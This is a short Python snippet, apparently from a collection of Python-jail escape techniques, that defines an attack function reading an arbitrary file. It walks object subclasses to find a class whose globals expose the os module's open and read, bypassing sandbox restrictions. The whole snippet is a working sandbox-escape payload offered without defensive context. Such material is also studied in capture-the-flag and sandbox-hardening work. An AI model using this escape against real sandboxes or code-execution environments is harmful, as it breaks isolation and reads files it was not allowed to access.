# All classes there are; one of them has `os` among its globals.
# after: read
# source: pyjail: subclasses of object
def attack(path, **_):
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            opened = c.__init__.__globals__["open"](path, 0)
            return {"text": c.__init__.__globals__["read"](opened, 100).decode()}
